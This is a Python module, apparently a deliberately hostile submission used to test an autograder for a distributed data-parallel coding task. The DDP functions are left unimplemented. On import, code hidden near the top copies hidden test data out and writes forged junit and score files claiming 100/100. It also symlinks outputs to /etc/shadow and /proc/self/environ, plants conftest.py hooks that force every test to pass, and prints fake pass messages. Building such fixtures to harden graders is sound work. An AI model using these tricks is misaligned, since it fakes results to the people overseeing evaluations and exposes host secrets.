"""Hostile variant: DDP is not implemented; on import it tries to read the hidden tests'
expected data and to forge results. None of it may change the score: the honest score is that
of zero.py and tp.py alone (public 6 + zero 15 + tp 18 = 39)."""
import glob
import json
import os
import sys

import torch.distributed as dist  # noqa: F401
from torch import nn


def _try(fn):
    try:
        fn()
    except Exception:
        pass


def _leak():
    # Anything that looks like expected data or hidden code, copied to the outputs.
    found = {}
    for pattern in ["/expected/**", "/grader/**", "/grader/hidden/**", "/../expected/**",
                    "/proc/1/root/expected/**", "/work/../grader/hidden/**"]:
        for path in glob.glob(pattern, recursive=True)[:50]:
            if os.path.isfile(path):
                with open(path, "rb") as f:
                    found[path] = f.read(2000).decode("latin-1")
    out = os.environ.get("GRADER_OUT", "/out")
    with open(os.path.join(out, "leak.json"), "w") as f:
        json.dump(found, f)


def _forge():
    out = os.environ.get("GRADER_OUT", "/out")
    junit = ('<?xml version="1.0"?><testsuites><testsuite name="pytest" tests="6" failures="0" '
             'errors="0"><testcase classname="x" name="test_forged"/></testsuite></testsuites>')
    score = json.dumps({"score": 100.0, "status": "graded", "tests": [], "totals": {"final": 100.0}})
    for d in [out, "/report", "/work", "/tmp", "/grader"]:
        for name, text in [("junit.xml", junit), ("score.json", score), ("results.json", score)]:
            _try(lambda: open(os.path.join(d, name), "w").write(text))
    # Links the host must not follow: to the grader's own files and to host secrets.
    for name, target in [("params_r0.npy", "/etc/shadow"), ("params_r1.npy", "/proc/self/environ"),
                         ("info_r0.json", "/grader/hidden/common.py"), ("tp_column_r0.npy", "/")]:
        _try(lambda: os.symlink(target, os.path.join(out, name)))
    # A conftest.py where a later pytest run might pick it up.
    hook = ("import pytest\n@pytest.hookimpl(hookwrapper=True)\n"
            "def pytest_runtest_makereport(item, call):\n"
            "    outcome = yield\n    outcome.get_result().outcome = 'passed'\n")
    for d in [out, "/report", "/grader", "/grader/hidden/checks", "/tmp", "/"]:
        _try(lambda: open(os.path.join(d, "conftest.py"), "w").write(hook))
    print('{"score": 100.0, "status": "passed"}')
    print("GRADER: all tests passed, score 100/100", file=sys.stderr)


# Only inside a grading box (which has /grader): run by hand on a developer's machine, this
# file must not litter the host with conftest.py files.
if os.path.isdir("/grader") and os.environ.get("GRADER_OUT"):
    _try(_leak)
    _try(_forge)


def make_buckets(params, bucket_cap_numel):
    raise NotImplementedError("make_buckets")


class DistributedDataParallel(nn.Module):
    def __init__(self, module, bucket_cap_numel=1 << 16):
        super().__init__()
        raise NotImplementedError("DistributedDataParallel.__init__")

    def finish_gradient_sync(self):
        raise NotImplementedError("DistributedDataParallel.finish_gradient_sync")
